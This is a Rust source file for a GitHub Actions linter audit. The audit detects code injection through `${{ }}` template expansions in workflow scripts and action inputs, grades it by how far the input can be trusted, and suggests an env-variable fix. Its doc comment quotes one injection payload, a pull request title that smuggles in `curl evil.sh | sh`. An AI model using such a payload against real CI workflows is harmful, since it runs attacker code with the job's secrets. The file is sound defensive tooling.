use crate::audit::{Audit, AuditContext, AuditMeta};
use crate::declare_audit;
use crate::expr::contexts::Trust;
use crate::expr::env_fix::move_to_env;
use crate::expr::scope::Scope;
use crate::expr::{expansions, value_span_to_file};
use crate::finding::{Applicability, Confidence, Finding, Location, Persona, Severity};
use crate::models::{Action, Job, Step, Workflow};
use crate::source::SourceFile;
use crate::yaml::Node;

declare_audit! {
    /// ## What it does
    ///
    /// Reports `${{ }}` expansions inside code: `run:` scripts, the `script:` of
    /// `actions/github-script`, and the inputs of other actions that run them as code (a list
    /// after CodeQL's sink models: `mikefarah/yq` `cmd`, `addnab/docker-run-action` `run` and
    /// `options`, `tibdex/backport` templates, ...), following YAML aliases.
    /// Expansions of text an outsider writes (pull request and issue titles and bodies, comments,
    /// branch names, commit messages, author names and emails) are high severity and high
    /// confidence; workflow inputs are medium; values computed at run time (step and job outputs,
    /// environment variables set by earlier steps, matrices built from expressions) are low, for
    /// the pedantic persona. Values that cannot carry injected text (`github.sha`, numeric ids,
    /// usernames, `secrets.*`, `vars.*`, static matrices, typed inputs, `env` variables defined
    /// with such values) are never reported.
    ///
    /// ## Why is this bad?
    ///
    /// GitHub substitutes the expression's value into the script text before the shell reads it.
    /// A pull request titled `a"; curl evil.sh | sh; echo "` becomes part of the script, runs with
    /// the job's token and secrets, and can poison caches and releases.
    ///
    /// ## Example
    ///
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "thanks for ${{ github.event.issue.title }}"
    /// ```
    ///
    /// Use instead:
    ///
    /// ```yaml
    /// on: issues
    /// permissions: {}
    /// jobs:
    ///   greet:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - env:
    ///           ISSUE_TITLE: ${{ github.event.issue.title }}
    ///         run: echo "thanks for ${ISSUE_TITLE}"
    /// ```
    ///
    /// ## Fix
    ///
    /// Unsafe: for bash scripts, the expansion moves into an `env:` variable of the step and the
    /// script reads `${NAME}` (quoted as needed to keep the script's meaning). The shell then sees
    /// the value as data, never as code.
    pub struct TemplateInjection {
        id: "template-injection",
        summary: "code injection via template expansion",
        severity: High,
        confidence: High,
        persona: Regular,
        inputs: [Workflow, Action],
        needs_network: false,
        fix: Unsafe,
    }
}

/// `owner/repo input` pairs (lowercase) of action inputs that run as code.
const CODE_INPUTS: &str = include_str!("data/code-inputs.txt");

/// The inputs of `action` (lowercase `owner/repo`) that run as code.
fn code_inputs(action: &str) -> impl Iterator<Item = &'static str> + '_ {
    CODE_INPUTS
        .lines()
        .filter(|l| !l.starts_with('#'))
        .filter_map(|l| l.split_once(' '))
        .filter(move |(a, _)| *a == action)
        .map(|(_, input)| input)
}

impl Audit for TemplateInjection {
    fn meta(&self) -> &'static AuditMeta {
        &Self::META
    }

    fn workflow(&self, _cx: &AuditContext<'_>, wf: &Workflow<'_>, out: &mut Vec<Finding>) {
        for job in &wf.jobs {
            for step in job.steps() {
                let scope = Scope::workflow(wf, job, Some(step));
                let bash = is_bash(step, Some((wf, job)));
                check_step(wf.file, step, &scope, bash, out);
            }
        }
    }

    fn action(&self, _cx: &AuditContext<'_>, action: &Action<'_>, out: &mut Vec<Finding>) {
        for step in action.steps() {
            let scope = Scope::action_step(step);
            check_step(action.file, step, &scope, is_bash(step, None), out);
        }
    }
}

fn check_step(
    file: &std::sync::Arc<SourceFile>,
    step: &Step<'_>,
    scope: &Scope<'_>,
    bash: bool,
    out: &mut Vec<Finding>,
) {
    if let (Some(run), Some((run_key, _))) = (step.run, step.node.entry("run")) {
        let fix_target = bash.then_some(run_key);
        check_code(
            file,
            step,
            run,
            step.route.key("run"),
            fix_target,
            scope,
            out,
        );
    }
    let Some(action) = step.action_name() else {
        return;
    };
    let Some(with) = step.with else { return };
    for input in code_inputs(&action) {
        if let Some((key, node)) = with
            .entries()
            .find(|(k, _)| k.as_str().is_some_and(|k| k.eq_ignore_ascii_case(input)))
        {
            let route = step.route.key("with").key(key.as_str().unwrap_or(input));
            check_code(file, step, node, route, None, scope, out);
        }
    }
}

fn check_code(
    file: &std::sync::Arc<SourceFile>,
    step: &Step<'_>,
    code: Node<'_>,
    route: crate::route::Route,
    fix_key: Option<Node<'_>>,
    scope: &Scope<'_>,
    out: &mut Vec<Finding>,
) {
    let Some(text) = code.as_str() else { return };
    for exp in expansions(text) {
        let Some(expr) = exp.expr() else { continue };
        for (path, span) in expr.value_contexts() {
            let trust = scope.trust(&path);
            let (severity, confidence, persona, why) = match trust {
                Trust::Safe => continue,
                Trust::Attacker => (
                    Severity::High,
                    Confidence::High,
                    Persona::Regular,
                    "text an outsider controls",
                ),
                Trust::Input => (
                    Severity::Medium,
                    Confidence::Medium,
                    Persona::Regular,
                    "a workflow input, chosen by whoever dispatches or calls it,",
                ),
                Trust::Unknown => (
                    Severity::Low,
                    Confidence::Low,
                    Persona::Pedantic,
                    "a value computed at run time",
                ),
            };
            let at = value_span_to_file(file, code, exp.to_outer(span));
            let shown = exp.body.get(span.start..span.end).unwrap_or_default();
            let message = format!("`{shown}` may expand {why} into code");
            let mut finding = Finding::new(
                &TemplateInjection::META,
                message,
                Location::file(file, at, route.clone(), "expanded into the script here"),
            )
            .severity(severity)
            .confidence(confidence)
            .persona(persona);
            if trust <= Trust::Input
                && let Some(key) = fix_key
                && let Some(edits) = move_to_env(
                    file,
                    step.node,
                    key,
                    code,
                    &text[exp.span.start..exp.span.end],
                    &path,
                )
            {
                finding = finding.fix(
                    "move the expansion into an `env:` variable",
                    Applicability::Unsafe,
                    edits,
                );
            }
            out.push(finding);
        }
    }
}

/// Whether the step's script runs in bash or sh, where `${NAME}` reads a variable.
fn is_bash<'a>(step: &Step<'a>, workflow: Option<(&Workflow<'a>, &Job<'a>)>) -> bool {
    fn default_shell(n: Option<Node<'_>>) -> Option<&str> {
        n.and_then(|d| d.get("run"))
            .and_then(|r| r.get_str("shell"))
    }
    let shell = step
        .node
        .get_str("shell")
        .or_else(|| workflow.and_then(|(_, job)| default_shell(job.get("defaults"))))
        .or_else(|| workflow.and_then(|(wf, _)| default_shell(wf.get("defaults"))));
    if let Some(shell) = shell {
        let first = shell.split_whitespace().next().unwrap_or_default();
        return matches!(first, "bash" | "sh");
    }
    let Some((_, job)) = workflow else {
        return false;
    };
    let Some(runs_on) = job.get("runs-on") else {
        return false;
    };
    let labels: Vec<&str> = if runs_on.is_sequence() {
        runs_on.items().filter_map(|n| n.as_str()).collect()
    } else {
        runs_on.as_str().into_iter().collect()
    };
    !labels.is_empty()
        && labels
            .iter()
            .all(|l| !l.contains("${{") && !l.to_ascii_lowercase().contains("windows"))
}

#[cfg(test)]
mod tests {
    #[test]
    fn code_inputs_list_is_sorted_lowercase_pairs() {
        let lines: Vec<&str> = super::CODE_INPUTS
            .lines()
            .filter(|l| !l.starts_with('#'))
            .collect();
        assert!(lines.windows(2).all(|w| w[0] < w[1]));
        assert!(lines.iter().all(|l| *l == l.to_ascii_lowercase()
            && l.split(' ').count() == 2
            && l.split(' ').next().is_some_and(|a| a.contains('/'))));
        let yq: Vec<_> = super::code_inputs("mikefarah/yq").collect();
        assert_eq!(yq, ["cmd"]);
        let docker: Vec<_> = super::code_inputs("addnab/docker-run-action").collect();
        assert_eq!(docker, ["options", "run"]);
    }
}
